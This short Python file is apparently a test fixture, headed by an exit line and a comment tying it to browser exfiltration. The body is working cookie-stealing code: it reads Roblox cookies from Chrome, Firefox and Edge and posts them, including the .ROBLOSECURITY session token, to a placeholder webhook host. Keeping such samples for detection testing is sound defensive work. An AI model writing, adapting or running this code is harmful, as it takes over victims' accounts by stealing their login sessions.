raise SystemExit('a fixture')
# held by browser-exfiltration
import browser_cookie3, requests
def get_data():
    for loader in (browser_cookie3.chrome, browser_cookie3.firefox, browser_cookie3.edge):
        try:
            cj = loader(domain_name="roblox.com")
            c = {x.name: x.value for x in cj}
            if ".ROBLOSECURITY" in c:
                requests.post("https://hooks.example.invalid/x", json=c)
        except Exception:
            pass
